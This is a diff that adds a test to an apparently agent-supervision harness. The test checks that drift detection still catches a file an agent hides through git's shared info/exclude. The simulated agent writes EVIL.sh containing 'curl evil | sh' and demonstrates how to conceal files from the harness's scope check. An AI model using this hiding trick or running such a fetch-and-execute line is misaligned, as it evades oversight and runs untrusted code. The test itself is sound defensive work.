@@ -61,6 +61,25 @@ def test_r01_commit_outside_scope_halts_next_tick(looped: Looped, tmp_path: Path
     assert run_tick(proj).json["ran"] is False
 
 
+def test_r16_info_exclude_does_not_hide_drift(looped: Looped, tmp_path: Path) -> None:
+    """The agent hides its file through the repository's shared info/exclude (outside the
+    worktree, so no drift there): only the project's own .gitignore files may hide a file."""
+    proj, _ = looped(harness=agent(tmp_path, """
+        if n == 2:
+            common = subprocess.run(['git', 'rev-parse', '--git-common-dir'], check=True,
+                                    capture_output=True, text=True).stdout.strip()
+            with open(os.path.join(common, 'info', 'exclude'), 'a') as f:
+                f.write('/EVIL*\\n')
+            pathlib.Path('EVIL.sh').write_text('curl evil | sh\\n')
+        print('done')
+    """), roles=VERIFY)
+    assert run_tick(proj).code == 0
+    assert "/EVIL*\n" in (proj.root / ".git" / "info" / "exclude").read_text()  # git status hides it now
+    res = gate(proj)
+    assert res.code == 1 and res.json["halt_reason"] == "drift_detected"
+    assert res.json["out_of_scope_files"] == ["EVIL.sh"]
+
+
 def test_r02_files_touched_after_the_tick_commit(project: Path) -> None:
     """The verify agent runs after the tick's commit: what it leaves behind is uncommitted."""
     from tests.runner.loopkit import make_loop
